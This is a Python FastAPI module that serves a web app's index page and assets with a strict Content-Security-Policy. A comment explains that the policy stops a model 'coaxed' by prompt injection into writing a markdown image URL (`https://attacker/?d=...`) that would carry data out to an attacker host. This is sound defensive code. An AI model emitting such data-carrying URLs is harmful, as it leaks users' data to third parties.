"""The web app (web/, built by `./dev` into web/dist): index.html at `/`, hashed assets under
`/assets/`. The page holds no secret and no user data; everything comes over /v1 and /ws."""

from __future__ import annotations

from pathlib import Path

from fastapi import APIRouter, FastAPI
from fastapi.responses import FileResponse, HTMLResponse, Response
from fastapi.staticfiles import StaticFiles

from switchboard_gateway.deps import Config

router = APIRouter()

_NOT_BUILT = """<!doctype html><meta charset="utf-8"><title>Switchboard</title>
<p>The web app is not built. <code>./dev up</code> builds it on first use, or run
<code>cd web &amp;&amp; npm ci &amp;&amp; npm run build</code>.</p>"""

# Answers are data (LLM05): the page shows them as text, and the browser may not fetch
# anything the answer names either, so a model coaxed into writing an image URL carrying data
# (`![](https://attacker/?d=...)`) exfiltrates nothing. Only same-origin requests, no images
# other than inline data, no plugins, no framing. The built app has no inline script.
CONTENT_SECURITY_POLICY = ("default-src 'self'; img-src 'self' data:; connect-src 'self'; "
                           "style-src 'self' 'unsafe-inline'; script-src 'self'; "
                           "object-src 'none'; frame-ancestors 'none'; base-uri 'none'; "
                           "form-action 'self'")
_HEADERS = {"Content-Security-Policy": CONTENT_SECURITY_POLICY, "Referrer-Policy": "no-referrer"}


@router.get("/", include_in_schema=False)
async def web_app(settings: Config) -> Response:
    index = settings.web_dir / "index.html"
    if not index.is_file():
        return HTMLResponse(_NOT_BUILT, status_code=503, headers=_HEADERS)
    # Revalidated on every load, so a rebuilt app (new hashed asset names) is picked up.
    return FileResponse(index, headers={**_HEADERS, "cache-control": "no-cache"})


def mount_assets(app: FastAPI, web_dir: Path) -> None:
    app.mount("/assets", StaticFiles(directory=web_dir / "assets", check_dir=False),
              name="assets")
